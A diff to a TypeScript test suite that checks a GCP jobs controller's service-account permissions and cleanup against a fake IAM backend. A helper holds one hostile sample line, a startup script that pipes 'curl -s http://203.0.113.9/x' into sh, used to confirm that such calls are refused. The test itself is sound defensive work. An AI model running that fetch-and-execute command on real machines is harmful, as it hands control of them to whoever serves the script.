@@ -7,7 +7,8 @@
 // cluster: the fake refuses any call whose IAM permission (permissions.ts, from GCP's
 // references) the role lacks, and every call made is checked against the role afterwards, so a
 // new provider call without a role update fails here. It may not widen itself. Down removes the
-// binding and the account with proof; an account no row owns is listed by the leak sweep.
+// binding and the account with proof; an account no row owns is listed by the leak sweep. The
+// controller's jobs account (job clusters with GCS mounts): controllerJobsAccount.test.ts.
 import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
@@ -27,7 +28,7 @@ import {
   CONTROLLER_PERMISSIONS, JOB_CLUSTER_PERMISSIONS, JOB_CLUSTERS_CONDITION, JOB_INSTANCE_PREFIX, controllerRole, jobClustersRole,
 } from '../../../src/core/clouds/gcp/controllerRole';
 import { serviceAccountEmail } from '../../../src/core/clouds/gcp/autodownIdentity';
-import { bucketAccountId } from '../../../src/core/clouds/gcp/bucketIdentity';
+import { bucketAccountId, jobsAccountId } from '../../../src/core/clouds/gcp/accountTags';
 import { CLOUD_PLATFORM_SCOPE } from '../../../src/core/clouds/gcp/launch';
 import { DEFAULT_ARM_IMAGE, DEFAULT_IMAGE } from '../../../src/core/clouds/gcp/options';
 import { gcpRest } from '../../../src/core/clouds/gcp/iamRest';
@@ -171,7 +172,8 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     });
     for (const who of ['default', email]) await assert.rejects(vmAs(who), /compute\.instances\.setServiceAccount|iam\.serviceAccounts\.actAs/, who);
     assert.equal([...bed.fake.model.instances.values()].some((i) => i.name.endsWith('escape-1')), false);
-    // So a job whose cluster needs its own account (GCS mounts) is refused by IAM, naming what is missing.
+    // A node not told its environment (controllerNodeEnv: its jobs account) would make the job
+    // cluster an account of its own: refused by IAM, naming what is missing.
     const asDefault = runRequest({ zone: ZONE });
     await assert.rejects(p.runInstances({ ...asDefault, placement: { ...asDefault.placement, bucketAccess: [{ store: 'gcs', bucket: 'data-bkt' }] } }),
       (e: Error) => /iam\.serviceAccounts\.get/.test(e.message));
@@ -203,12 +205,15 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     const email = emailOf(row.uid);
     await grantControllerBuckets(ctx, row, ['name: j\nresources: {cloud: gcp}\nfile_mounts:\n  /in: gs://jobs-in/data\nrun: ls /in\n'], {});
     const binding = () => bed.fake.bucketIam.buckets.get('jobs-in')!.bindings.filter((b) => b.role === BUCKET_ROLE);
-    assert.deepEqual(binding().flatMap((b) => b.members), [`serviceAccount:${email}`]);
+    // The VM's own account (it looks the bucket up) and the jobs account its job clusters run as.
+    const jobs = serviceAccountEmail(jobsAccountId(row.uid), PROJECT);
+    assert.deepEqual(binding().flatMap((b) => b.members), [`serviceAccount:${email}`, `serviceAccount:${jobs}`]);
     assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted, 'the controller role is untouched');
     const r = await down(ctx, row.name);
     assert.ok(r.cleaned, r.notes.join('\n'));
-    assert.deepEqual(binding().flatMap((b) => b.members), [], 'the row recorded the bucket: its down revoked it');
+    assert.deepEqual(binding().flatMap((b) => b.members), [], 'the row recorded the bucket: its down revoked both');
     assert.equal(iam().accounts.has(email), false);
+    assert.equal(iam().accounts.has(jobs), false);
   });
 
   it('an account no row owns (its instances ended without a down) is listed by the sweep and deleted with its binding', async () => {
@@ -222,14 +227,18 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     const sweep = await findLeakedInstances(ctx, ['gcp']);
     assert.deepEqual(sweep.errors, []);
     const stray = (sweep.strayIdentities ?? []).filter((s) => s.uid === row.uid);
-    assert.deepEqual(stray.map((s) => [s.kind, s.name, s.cluster]), [['service account', email, 'skydeck-jobs-orphan']]);
+    const jobs = serviceAccountEmail(jobsAccountId(row.uid), PROJECT);
+    assert.deepEqual(stray.map((s) => [s.kind, s.name, s.cluster]), [['service account', email, 'skydeck-jobs-orphan'], ['service account', jobs, 'skydeck-jobs-orphan']]);
     const del = await deleteStrayIdentity(ctx, stray[0]);
     assert.ok(del.deleted, del.message);
     assert.match(del.message, new RegExp(`deleted project role binding ${ROLE} of ${email}`));
+    assert.match(del.message, new RegExp(`deleted service account ${jobs} \\(proof: serviceAccounts\\.get answers 404\\)`));
     assert.match(del.message, new RegExp(`deleted project role binding ${JOB_ROLE} of ${email}`));
     assert.deepEqual(bound(), []);
     assert.deepEqual(jobBindings(), []);
     assert.equal(iam().accounts.has(email), false);
+    assert.equal(iam().accounts.has(jobs), false, 'the controller\'s jobs account went with it');
+    assert.deepEqual(await deleteStrayIdentity(ctx, stray[1]), { deleted: true, message: `service account ${jobs} was already gone` });
   });
 
   it('a role someone widened is set back to exactly the list by the next controller launch', async () => {
@@ -244,7 +253,7 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     assert.deepEqual(bound(), [`serviceAccount:${emailOf(row.uid)}`]);
   });
 
-  it('a stopped controller started again (the next jobs launch) sets a role changed meanwhile back too', async () => {
+  it('a stopped controller started again (the next jobs launch) sets a role, binding and jobs-account use changed meanwhile back too', async () => {
     const row = await launchController();
     const p = ctx.providers!.get('gcp')!;
     await p.stopInstances({ uid: row.uid });
@@ -253,17 +262,20 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     const r = iam().roles.get(ROLE)!;
     r.includedPermissions = [...r.includedPermissions, 'iam.serviceAccounts.actAs'];
     iam().bindings = iam().bindings.filter((b) => b.role !== ROLE); // and its binding removed
+    const jobs = serviceAccountEmail(jobsAccountId(row.uid), PROJECT);
+    iam().accountPolicies.delete(jobs); // and the controller's use of its jobs account
     const again = await launchController();
     assert.equal(again.uid, row.uid, 'started, not a new VM');
     assert.equal(again.status, 'UP');
     assert.deepEqual([...iam().roles.get(ROLE)!.includedPermissions].sort(), sorted);
     assert.deepEqual(bound(), [`serviceAccount:${emailOf(row.uid)}`]);
+    assert.deepEqual(iam().accountPolicies.get(jobs)?.bindings, [{ role: 'roles/iam.serviceAccountUser', members: [`serviceAccount:${emailOf(row.uid)}`] }]);
   });
 
   it('a caller who may not attach the new account to the VM: the controller and the fix are named; nothing is left', async () => {
     iam().callerLacks.add('iam.serviceAccounts.actAs');
     await assert.rejects(launchController(), /GCP managed-jobs controller: your account may not attach the service account skydeck-b-[0-9a-f]{20}@.*iam\.serviceAccounts\.actAs/s);
-    assert.deepEqual([...iam().accounts.keys()].filter((x) => x.startsWith('skydeck-b-')), []);
+    assert.deepEqual([...iam().accounts.keys()].filter((x) => /^skydeck-(b|ja)-/.test(x)), [], 'its jobs account too');
     assert.deepEqual(bound(), [], 'the binding went with the account');
     assert.deepEqual(jobBindings(), [], 'and the conditional one');
   });
@@ -282,7 +294,7 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
   });
   const vmPath = (vm: FakeInstance) => `projects/${PROJECT}/zones/${ZONE}/instances/${vm.name}`;
   /** Each instance call that would let the controller reach further through another VM, as Compute takes it. */
-  const reaching = (p: ReturnType<typeof vmProvider>, vm: FakeInstance): [string, () => Promise<unknown>][] => [
+  const reaching = (p: ReturnType<typeof vmProvider>, vm: FakeInstance, jobs = 'none'): [string, () => Promise<unknown>][] => [
     ['compute.instances.setMetadata', () => p.clients.post(`${vmPath(vm)}/setMetadata`, {
       fingerprint: (vm.metadata as { fingerprint?: string }).fingerprint, items: [{ key: 'startup-script', value: 'curl -s http://203.0.113.9/x | sh' }],
     })],
@@ -291,6 +303,8 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     ['compute.instances.stop', () => p.clients.post(`${vmPath(vm)}/stop`)],
     ['compute.instances.start', () => p.clients.post(`${vmPath(vm)}/start`)],
     ['compute.instances.delete', () => p.clients.delete(vmPath(vm))],
+    // The jobs account (the one account the VM may attach) on a VM outside the prefix: its software would get the jobs' buckets.
+    ['compute.instances.setServiceAccount', () => p.clients.post(`${vmPath(vm)}/setServiceAccount`, { email: jobs, scopes: [CLOUD_PLATFORM_SCOPE] })],
   ];
 
   it('the VM\'s token may not change, stop or delete a VM outside the prefix: the user\'s own, one running as the default account, its own', async () => {
@@ -318,8 +332,9 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     await p.waitInstances(job, 'running', 5000);
     const [jobVm] = instancesOf(job.uid);
 
+    const jobs = serviceAccountEmail(jobsAccountId(ctl.uid), PROJECT);
     for (const vm of [userVm, webVm, own]) {
-      for (const [permission, call] of reaching(p, vm)) {
+      for (const [permission, call] of reaching(p, vm, jobs)) {
         assert.deepEqual(await answer(call()), [403, `Required '${permission}' permission for '${vmPath(vm)}'`], `${permission} on ${vm.name}`);
       }
       assert.equal(vm.status, 'RUNNING', vm.name);
@@ -330,6 +345,15 @@ describe('gcp managed-jobs controller VM: its own service account and the skydec
     assert.deepEqual(await answer(reaching(p, jobVm)[0][1]()), [200, '']);
     for (let t = 0; !JSON.stringify(jobVm.metadata).includes('startup-script') && t < 200; t++) await new Promise((r) => setTimeout(r, 25));
     assert.ok(JSON.stringify(jobVm.metadata).includes('startup-script'));
+    // setServiceAccount is bounded the same way (skydeckJobClusters): on the job cluster's VM, stopped, the jobs account goes
+    // through; the default account (Editor) does not (actAs, on that account).
+    await p.stopInstances(job);
+    await p.waitInstances(job, 'stopped', 5000);
+    const setAccount = (email: string) => answer(p.clients.post(`${vmPath(jobVm)}/setServiceAccount`, { email, scopes: [CLOUD_PLATFORM_SCOPE] }));
+    assert.deepEqual(await setAccount(iam().defaultAccount), [403, `Required 'iam.serviceAccounts.actAs' permission for 'projects/${PROJECT}/serviceAccounts/${iam().defaultAccount}'`]);
+    assert.deepEqual(await setAccount(jobs), [200, '']);
+    for (let t = 0; (jobVm.serviceAccounts as { email: string }[] | undefined)?.[0]?.email !== jobs && t < 200; t++) await new Promise((r) => setTimeout(r, 25));
+    assert.deepEqual(jobVm.serviceAccounts, [{ email: jobs, scopes: [CLOUD_PLATFORM_SCOPE] }]);
     // Nor may it create a VM outside the prefix (then change it as its creator).
     assert.deepEqual(await answer(p.clients.post(`projects/${PROJECT}/zones/${ZONE}/instances`, {
       name: 'web-2', machineType: `zones/${ZONE}/machineTypes/e2-small`, disks: [{ boot: true, initializeParams: { sourceImage: DEFAULT_IMAGE } }],
